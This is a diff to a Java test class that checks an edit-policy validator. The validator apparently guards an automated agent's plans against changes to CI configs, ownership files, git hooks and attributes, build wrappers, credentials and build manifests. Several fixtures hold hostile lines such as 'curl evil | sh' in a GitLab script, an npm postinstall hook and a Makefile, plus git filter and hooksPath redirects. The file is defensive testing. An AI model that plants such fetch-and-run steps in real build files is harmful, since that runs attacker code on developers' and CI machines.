@@ -87,17 +87,43 @@ class AdversarialEditsTest {
         c.add(policy("upper-case .GIT config", sr(".GIT/config", "[core]\n", "[core]\n\thooksPath = /tmp\n"), Rule.GIT_DIRECTORY, ".git"));
         c.add(policy(".git with trailing dot", create(".git./config", "x\n"), Rule.INVALID_PATH, "ends with '.'"));
         c.add(policy("8.3 short name of .git", create("GIT~1/config", "x\n"), Rule.INVALID_PATH, "Windows short name"));
-        c.add(policy("Jenkinsfile", sr("Jenkinsfile", "pipeline {}\n", "pipeline { sh 'curl evil' }\n"), Rule.PROTECTED_PATH, "'Jenkinsfile'"));
-        c.add(policy("JENKINSFILE in capitals", create("JENKINSFILE", "x\n"), Rule.PROTECTED_PATH, "'Jenkinsfile'"));
-        c.add(policy("nested Jenkinsfile", create("ci/deploy/Jenkinsfile", "x\n"), Rule.PROTECTED_PATH, "'**/Jenkinsfile'"));
-        c.add(policy("Jenkinsfile with trailing space", create("Jenkinsfile \t", "x\n"), Rule.PROTECTED_PATH, "'Jenkinsfile'"));
+        c.add(policy("Jenkinsfile", sr("Jenkinsfile", "pipeline {}\n", "pipeline { sh 'curl evil' }\n"), Rule.PROTECTED_PATH, "'**/*jenkinsfile*'"));
+        c.add(policy("JENKINSFILE in capitals", create("JENKINSFILE", "x\n"), Rule.PROTECTED_PATH, "'**/*jenkinsfile*'"));
+        c.add(policy("nested Jenkinsfile", create("ci/deploy/Jenkinsfile", "x\n"), Rule.PROTECTED_PATH, "'**/*jenkinsfile*'"));
+        c.add(policy("Jenkinsfile with trailing space", create("Jenkinsfile \t", "x\n"), Rule.PROTECTED_PATH, "'**/*jenkinsfile*'"));
         c.add(policy("Jenkinsfile with trailing dot", create("Jenkinsfile.", "x\n"), Rule.INVALID_PATH, "ends with '.'"));
         c.add(policy("GitHub workflow", create(".github/workflows/ci.yml", "on: push\n"), Rule.PROTECTED_PATH, "'.github/**'"));
-        c.add(policy("CODEOWNERS", create("CODEOWNERS", "* @evil\n"), Rule.PROTECTED_PATH, "'CODEOWNERS'"));
+        c.add(policy("CODEOWNERS", create("CODEOWNERS", "* @evil\n"), Rule.PROTECTED_PATH, "'**/CODEOWNERS'"));
         c.add(policy(".ci script", create(".ci/release.sh", "x\n"), Rule.PROTECTED_PATH, "'.ci/**'"));
         c.add(policy("private key", create("certs/server.PEM", "x\n"), Rule.PROTECTED_PATH, "'**/*.pem'"));
         c.add(policy("key file at root", create("deploy.key", "x\n"), Rule.PROTECTED_PATH, "'**/*.key'"));
         c.add(policy("dotenv", create("config/.env.production", "TOKEN=x\n"), Rule.PROTECTED_PATH, "'**/.env*'"));
+        // What a steered plan changed under the old defaults: CI of other systems, named-like Jenkinsfiles, shared
+        // library steps, ownership and attribute files, build-tool extensions and wrappers
+        c.add(policy("GitLab CI", create(".gitlab-ci.yml", "x:\n  script: curl evil | sh\n"), Rule.PROTECTED_PATH, "'**/.gitlab-ci.yml'"));
+        c.add(policy("Jenkinsfile variant in a folder", create("ci/Jenkinsfile.release", "x\n"), Rule.PROTECTED_PATH, "'**/*jenkinsfile*'"));
+        c.add(policy("a .jenkinsfile", create("pipelines/deploy.jenkinsfile", "x\n"), Rule.PROTECTED_PATH, "'**/*jenkinsfile*'"));
+        c.add(policy("shared library step", create("vars/deploy.groovy", "def call() {}\n"), Rule.PROTECTED_PATH, "'vars/*.groovy'"));
+        c.add(policy("nested CODEOWNERS", create("docs/CODEOWNERS", "* @evil\n"), Rule.PROTECTED_PATH, "'**/CODEOWNERS'"));
+        c.add(policy("git attributes filter", create(".gitattributes", "* filter=evil\n"), Rule.PROTECTED_PATH, "'**/.gitattributes'"));
+        c.add(policy("Maven extension", create(".mvn/extensions.xml", "<extensions/>\n"), Rule.PROTECTED_PATH, "'**/.mvn/**'"));
+        c.add(policy("Maven wrapper", create("mvnw", "#!/bin/sh\n"), Rule.PROTECTED_PATH, "'**/mvnw'"));
+        c.add(policy("Gradle wrapper properties", create("gradle/wrapper/gradle-wrapper.properties", "x=1\n"), Rule.PROTECTED_PATH, "'**/gradle/wrapper/**'"));
+        c.add(policy("CircleCI", create(".circleci/config.yml", "x\n"), Rule.PROTECTED_PATH, "'.circleci/**'"));
+        c.add(policy("Azure Pipelines", create("azure-pipelines.yml", "x\n"), Rule.PROTECTED_PATH, "'**/azure-pipelines*.yml'"));
+        c.add(policy("Bitbucket Pipelines", create("bitbucket-pipelines.yml", "x\n"), Rule.PROTECTED_PATH, "'bitbucket-pipelines.yml'"));
+        c.add(policy("npm credentials", create("web/.npmrc", "//registry/:_authToken=x\n"), Rule.PROTECTED_PATH, "'**/.npmrc'"));
+        // Build files are sensitive: refused unless the policy allows them, even when any other file may change
+        c.add(policy("Maven build file", create("pom.xml", "<project/>\n"), Rule.SENSITIVE_PATH, "'**/pom.xml'"));
+        c.add(policy("npm package.json", create("web/package.json", "{\"scripts\":{\"postinstall\":\"curl evil|sh\"}}\n"), Rule.SENSITIVE_PATH, "'**/package.json'"));
+        c.add(policy("Makefile", create("Makefile", "all:\n\tcurl evil | sh\n"), Rule.SENSITIVE_PATH, "'**/Makefile'"));
+        c.add(policy("Gradle Kotlin build", create("app/build.gradle.kts", "x\n"), Rule.SENSITIVE_PATH, "'**/build.gradle.kts'"));
+        c.add(policy("CMake", create("CMakeLists.txt", "x\n"), Rule.SENSITIVE_PATH, "'**/CMakeLists.txt'"));
+        c.add(policy("Python project", create("pyproject.toml", "x\n"), Rule.SENSITIVE_PATH, "'**/pyproject.toml'"));
+        c.add(policy("Cargo manifest", create("Cargo.toml", "x\n"), Rule.SENSITIVE_PATH, "'**/Cargo.toml'"));
+        c.add(policy("Cargo build script", create("build.rs", "fn main() {}\n"), Rule.SENSITIVE_PATH, "'**/build.rs'"));
+        c.add(policy("Go module", create("go.mod", "module x\n"), Rule.SENSITIVE_PATH, "'**/go.mod'"));
+        c.add(policy("Go module in capitals", create("GO.MOD", "module x\n"), Rule.SENSITIVE_PATH, "'**/go.mod'"));
         c.add(policy("Windows device name", create("src/con.java", "x\n"), Rule.INVALID_PATH, "Windows device name"));
         c.add(policy("directory instead of file", create("src/", "x\n"), Rule.INVALID_PATH, "names a directory"));
         c.add(policy("overlong path", create("a/".repeat(2100) + "x.txt", "x\n"), Rule.INVALID_PATH, "longer than 4096"));
